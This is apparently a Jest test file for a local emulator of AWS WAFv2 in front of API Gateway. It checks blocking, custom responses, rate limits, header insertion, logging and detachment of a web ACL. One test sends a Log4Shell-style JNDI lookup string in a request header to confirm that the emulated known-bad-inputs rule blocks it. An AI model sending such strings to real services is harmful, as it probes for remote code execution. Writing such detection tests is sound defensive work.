import type { Properties } from "../../../../../local/service";
import { createWafService } from "../../../../../local/services/wafv2";
import { echo, http, post, proxyTo, TestCloud } from "../test-cloud";

let cloud: TestCloud;
let base: string;
const group = "aws-waf-logs-api";

const startsWith = (searchString: string) => ({
  byteMatchStatement: {
    searchString,
    positionalConstraint: "STARTS_WITH",
    fieldToMatch: { uriPath: {} },
    textTransformations: [{ priority: 0, type: "NONE" }],
  },
});
const rules: Properties[] = [
  { name: "closed", priority: 0, action: { block: {} }, statement: startsWith("/dev/closed") },
  {
    name: "gone",
    priority: 1,
    action: { block: { customResponse: { responseCode: 410, customResponseBodyKey: "gone" } } },
    statement: startsWith("/dev/gone"),
  },
  {
    name: "seen",
    priority: 2,
    action: { count: { customRequestHandling: { insertHeaders: [{ name: "seen", value: "yes" }] } } },
    statement: startsWith("/dev/seen"),
  },
  {
    name: "bad",
    priority: 3,
    overrideAction: { none: {} },
    statement: { managedRuleGroupStatement: { vendorName: "AWS", name: "AWSManagedRulesKnownBadInputsRuleSet" } },
  },
  {
    name: "often",
    priority: 4,
    action: { block: {} },
    statement: {
      rateBasedStatement: {
        limit: 10,
        evaluationWindowSec: 60,
        aggregateKeyType: "IP",
        scopeDownStatement: startsWith("/dev/often"),
      },
    },
  },
];

beforeAll(async () => {
  cloud = await TestCloud.start();
  cloud.use(createWafService);
  await cloud.function("echo", echo);
  base = await cloud.api(
    "api",
    {
      paths: { "/{any}": { get: proxyTo("echo"), post: proxyTo("echo") } },
      "x-amazon-apigateway-gateway-responses": {
        WAF_FILTERED: {
          statusCode: "403",
          responseParameters: { "gatewayresponse.header.Content-Type": "'application/problem+json'" },
          responseTemplates: {
            "application/json": '{"title":$context.error.messageString,"type":"$context.error.responseType"}',
          },
        },
      },
    },
    {
      accessLogSettings: {
        destinationArn: "arn:aws:logs:eu-west-1:000000000000:log-group:access",
        format: "$context.path $context.status $context.wafResponseCode $context.waf.status $context.webaclArn",
      },
    },
  );
  const { outputs } = await cloud.declare("aws:wafv2/webAcl:WebAcl", "acl", {
    scope: "REGIONAL",
    defaultAction: { allow: {} },
    customResponseBodies: [{ key: "gone", content: "no more", contentType: "TEXT_PLAIN" }],
    rules,
  });
  const webAclArn = (outputs as Properties).arn;
  const stage = cloud.states.get("aws:apigateway/stage:Stage api")?.state.outputs as Properties;
  await cloud.declare("aws:wafv2/webAclAssociation:WebAclAssociation", "acl", { webAclArn, resourceArn: stage.arn });
  await cloud.declare("aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration", "acl", {
    resourceArn: webAclArn,
    logDestinationConfigs: [`arn:aws:logs:eu-west-1:000000000000:log-group:${group}`],
  });
});
afterAll(() => cloud.close());

const accessLines = () => cloud.logs.store.find("access").map(({ message }) => message);

describe("A stage with a web ACL before it", () => {
  it("lets through what no rule is about, with its body", async () => {
    const { status, json } = await http(`${base}/open?a=1`, post('{"a":1}'));
    expect([status, json.body]).toEqual([200, '{"a":1}']);
    expect(accessLines().at(-1)).toMatch(/^\/api\/dev\/open 200 WAF_ALLOW 200 arn:aws:wafv2:/);
  });

  it("answers what is refused with the gateway's own response for it", async () => {
    const { status, headers, json } = await http(`${base}/closed`);
    expect([status, json]).toEqual([403, { title: "Forbidden", type: "WAF_FILTERED" }]);
    expect(headers).toMatchObject({
      "content-type": "application/problem+json",
      "x-amzn-errortype": "ForbiddenException",
    });
    expect(accessLines().at(-1)).toMatch(/^\/api\/dev\/closed 403 WAF_BLOCK/);
    expect(cloud.printed.at(-1)).toBe("api: GET /closed 403: its web ACL blocks it by the rule closed");
  });

  it("answers with the rule's own where it has one", async () => {
    const { status, headers, text } = await http(`${base}/gone`, post("{}"));
    expect([status, headers["content-type"], text]).toEqual([410, "text/plain", "no more"]);
  });

  it("tells the terminal which rate was too high", async () => {
    for (let turn = 0; turn < 10; turn++) expect((await http(`${base}/often`)).status).toBe(200);
    const before = cloud.printed.length;
    expect((await http(`${base}/often`)).status).toBe(403);
    expect(cloud.printed.slice(before)).toEqual([
      "api: GET /often 403: its web ACL blocks it by the rule often: more than 10 requests in 60 s of 127.0.0.1",
    ]);
  });

  it("hands on what rules add, which no client can", async () => {
    const seen = await http(`${base}/seen`, { headers: { "x-amzn-waf-seen": "no" } });
    expect(seen.json.headers["x-amzn-waf-seen"]).toBe("yes");
  });

  it("is judged before its routes, and under the name that it would have on AWS", async () => {
    const unknown = await http(`${base}/no/such/path`, { headers: { "x-a": "\u0024{jndi:ldap://example.com}" } });
    expect([unknown.status, unknown.json.type]).toEqual([403, "WAF_FILTERED"]);
    expect(cloud.printed.at(-1)).toMatch(
      /^api: GET \/no\/such\/path 403: its web ACL blocks it by the rule Log4J\S+ of bad$/,
    );
    for (const host of ["localhost", "127.0.0.1:4400", "api.localhost:4400"])
      expect((await http(`${base}/open`, { headers: { host } })).status).toBe(200);
    const record = JSON.parse(cloud.logs.store.find(group).at(-1)?.message ?? "{}");
    const { id } = cloud.states.get("aws:apigateway/restApi:RestApi api")?.state ?? {};
    expect(record.httpRequest.headers).toContainEqual({
      name: "host",
      value: `${id}.execute-api.eu-west-1.amazonaws.com`,
    });
    expect(record).toMatchObject({
      httpSourceId: `000000000000:${id}:dev`,
      httpRequest: { uri: "/dev/open", args: "" },
    });
  });

  it("still refuses what is too large for the gateway", async () => {
    const { status } = await http(`${base}/open`, post(Buffer.alloc(10 * 1024 * 1024 + 1)));
    expect(status).toBe(413);
  });

  it("is judged no more once the web ACL is taken away", async () => {
    await cloud.remove("aws:wafv2/webAclAssociation:WebAclAssociation", "acl");
    expect((await http(`${base}/closed`)).status).toBe(200);
    expect(accessLines().at(-1)).toMatch(/closed 200 - - -$/);
  });
});
